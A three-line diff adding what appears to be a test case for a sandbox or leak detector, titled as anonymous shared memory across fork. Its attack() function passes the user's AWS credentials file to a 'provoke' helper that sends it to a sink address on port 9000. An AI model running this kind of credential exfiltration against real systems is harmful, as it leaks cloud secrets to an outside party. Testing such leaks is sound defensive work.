@@ -1,0 +1,3 @@
+# SPDX-License-Identifier: Apache-2.0
+TITLE="anonymous memory shared over fork, mapped before the secret is read"
+attack() { "$PROVOKE/shm" anon "$HOME/.aws/credentials" "$SINK4" 9000; }
